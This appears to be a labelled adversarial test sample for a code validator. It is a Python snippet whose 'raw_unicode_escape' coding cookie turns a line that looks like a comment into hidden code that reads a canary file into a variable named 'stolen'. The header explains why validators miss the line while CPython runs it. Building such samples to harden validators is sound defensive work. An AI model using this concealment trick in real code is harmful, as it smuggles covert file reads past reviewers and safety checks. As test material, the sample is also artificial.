 # -*- coding: raw_unicode_escape -*-
# class: coding_cookie
# technique: a space and a lone CR as line 1 (blank to CPython, not a comment to the validator) before a raw_unicode_escape cookie
# goal: read
# Parsed from a str (the validator, the renderer) the hidden line below is a comment; run as a
# file by CPython (python3 snippet.py after a download) the cookie decodes it into code.
import numpy as np
import pandas as pd

summary = pd.Series(np.arange(5)).describe()
# \u000astolen = open("{{CANARY_FILE}}").read()
df = pd.DataFrame({"stolen": [stolen]})  # NameError unless the hidden line ran
